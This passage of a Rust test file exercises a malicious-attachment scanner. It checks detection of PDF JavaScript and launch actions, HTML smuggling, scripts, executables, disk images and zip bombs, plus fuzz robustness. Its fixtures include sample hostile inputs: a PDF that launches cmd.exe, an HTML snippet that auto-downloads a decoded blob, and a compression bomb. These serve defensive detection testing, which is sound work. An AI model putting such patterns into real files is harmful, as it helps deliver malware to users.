        ("a.gz", b"\x1f\x8b\x08\x00junk"),
        ("a.pdf", b"%PDF-1.7 stream\r\nx\x9c\xff\xff"),
    ] {
        let _ = run(name, head);
    }
}

#[test]
fn pdf_and_html_payloads() {
    let pdf = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL('x'))>>>>endobj\n2 0 obj<</Type/Action/S/Launch/F(cmd.exe)>>endobj\n3 0 obj<</Type/#45mbeddedFile>>endobj";
    let k = kinds(&run("statement.pdf", pdf));
    for want in [Kind::PdfJavascript, Kind::PdfLaunch, Kind::PdfAutoAction, Kind::PdfEmbeddedFile] {
        assert!(k.contains(&want), "{want:?} in {k:?}");
    }
    let html = b"<html><body><script>const d=atob('TVqQAAMAAAAEAAAA');const b=new Blob([d]);const a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='doc.iso';a.click();</script></body></html>";
    assert!(kinds(&run("message.html", html)).contains(&Kind::HtmlSmuggling));
}

#[test]
fn raw_bytes_never_panic() {
    let mut seed = 0x1234_5678u32;
    for len in [0usize, 1, 2, 7, 512, 4096, 70_000] {
        let data: Vec<u8> = (0..len)
            .map(|_| {
                seed ^= seed << 13;
                seed ^= seed >> 17;
                seed ^= seed << 5;
                seed as u8
            })
            .collect();
        for prefix in [
            &b""[..],
            b"PK\x03\x04",
            b"\x1f\x8b",
            b"%PDF-",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
            b"<html><script>",
        ] {
            let mut d = prefix.to_vec();
            d.extend_from_slice(&data);
            let _ = run("\u{0}\u{202e}\u{feff}x.\u{7f}", &d);
        }
    }
    let r =
        inspect(&Input { name: None, declared_type: "", data: b"abc", truncated: true }, &Limits::default());
    assert!(r.has(Kind::Unscannable));
}

/// Pseudo-random bytes (xorshift), so that deflate cannot shrink them: a member's first bytes that
/// are not bomb filler.
fn noise(n: usize, mut seed: u32) -> Vec<u8> {
    (0..n)
        .map(|_| {
            seed ^= seed << 13;
            seed ^= seed >> 17;
            seed ^= seed << 5;
            seed as u8
        })
        .collect()
}

/// Pseudo-random text: lines of words, compressing about as well as a log file does.
fn prose(n: usize) -> Vec<u8> {
    let words = ["invoice ", "shipment ", "account ", "status=ok ", "id=", "ERROR ", "2026 ", "\n"];
    let picks = noise(n / 4, 0x2545_f491);
    picks.iter().flat_map(|&b| words[usize::from(b) % words.len()].bytes()).take(n).collect()
}

/// Set a zip's single member's CRC-32 and uncompressed size in its central directory record.
fn set_central(z: &mut [u8], crc: Option<u32>, size: Option<u32>) {
    let cd = z.windows(4).position(|w| w == b"PK\x01\x02").unwrap();
    for (at, v) in [(cd + 16, crc), (cd + 24, size)] {
        if let Some(v) = v {
            z[at..at + 4].copy_from_slice(&v.to_le_bytes());
        }
    }
}

#[test]
fn leaf_members_are_read_as_far_as_their_type_needs() {
    // A leaf larger than the window: typed from its start (scripts by their markers, programs by
    // their headers), and a wrong CRC past the window is not seen: clamd scans the whole file.
    let mut script = b"@echo off\r\nstart calc\r\n".to_vec();
    script.extend(prose(1 << 20));
    let mut program = pe();
    program.extend(noise(1 << 20, 7));
    for (name, data, kind) in
        [("notes.txt", &script, Kind::Script), ("setup.dat", &program, Kind::Executable)]
    {
        let mut z = zip_of(&[(name, data)]);
        set_central(&mut z, Some(0xdead_beef), None);
        let r = run("leaf.zip", &z);
        assert_eq!(kinds(&r), [kind], "{name}: {:?}", r.issues);
        assert!(!r.unscannable());
    }
    // A member read whole is still checked to its end: the CRC, and what an analyzer finds there.
    let mut page = b"<html><body>".to_vec();
    page.extend(prose(200_000));
    page.extend(b"<script>document.write(1)</script></body></html>");
    let z = zip_of(&[("page.html", &page)]);
    assert!(kinds(&run("page.zip", &z)).contains(&Kind::HtmlScript), "{:?}", run("page.zip", &z).issues);
    let mut z = zip_of(&[("page.html", &page)]);
    set_central(&mut z, Some(0xdead_beef), None);
    let r = run("page.zip", &z);
    assert!(r.issues.iter().any(|i| i.kind == Kind::ArchiveUninspectable && i.detail.contains("checksum")));
    // An honest header is held to the ratio limit whatever the first bytes are: 64 KiB of noise
    // hides 40 MiB of zeros that were never inflated.
    let mut hidden = noise(1 << 16, 3);
    hidden.resize(40 << 20, 0);
    let r = run("hidden.zip", &zip_of(&[("data.bin", &hidden)]));
    let stop = stopped_by(&r);
    assert!(stop.kind == Kind::ArchiveBomb && stop.detail.contains("declares 41943040 bytes"), "{stop:?}");
    // Bomb filler at the start is inflated whole, as before: a header that understates its zeros
    // is caught at its declared size.
    let mut z = zip_of(&[("zeros.bin", &vec![0u8; 8 << 20])]);
    set_central(&mut z, None, Some(100_000));
    let r = run("zeros.zip", &z);
    assert!(
        r.issues.iter().any(|i| i.kind == Kind::ArchiveUninspectable && i.detail.contains("larger than")),
        "{:?}",
        r.issues
    );
}

fn tar_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, data) in members {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        b.append_data(&mut h, name, *data).unwrap();
    }
    b.into_inner().unwrap()
}

#[test]
fn tar_members_are_typed_whole_and_leaves_kept_to_the_window() {
    // A fixed VHD is told by its trailer, past the window: a tar member (already in memory) is
    // typed from all of it, as a whole file is. A script by its first bytes; a page is read whole,
    // so its script past the window is found.
    let mut vhd = noise(200_000, 5);
    let n = vhd.len();
    vhd[n - 512..n - 504].copy_from_slice(b"conectix");
    let mut script = b"@echo off\r\nstart calc\r\n".to_vec();
    script.extend(prose(300_000));
    let mut page = b"<html><body>".to_vec();
    page.extend(prose(200_000));
    page.extend(b"<script>document.write(1)</script></body></html>");
    let tar = tar_of(&[("disk.bin", &vhd), ("notes.txt", &script), ("page.html", &page)]);
    let r = run("bundle.tar", &tar);
    for (file, kind) in [
        ("bundle.tar > disk.bin", Kind::DiskImage),
        ("bundle.tar > notes.txt", Kind::Script),
        ("bundle.tar > page.html", Kind::HtmlScript),
    ] {
        assert!(r.issues.iter().any(|i| i.file == file && i.kind == kind), "{file}: {:?}", r.issues);
    }
    assert!(!r.unscannable(), "{:?}", r.issues);
    // A leaf kept to its window still counts against the total by its whole size.
    let limits = Limits { max_total_bytes: 400_000, ..Limits::default() };
    let input =
        Input { name: Some("bundle.tar"), declared_type: "application/x-tar", data: &tar, truncated: false };
    let r = inspect(&input, &limits);
    let stop = stopped_by(&r);
    assert!(
        stop.kind == Kind::ArchiveLimit
            && stop.file == "bundle.tar > notes.txt"
            && stop.detail.contains("in total"),
        "{stop:?}"
    );
}
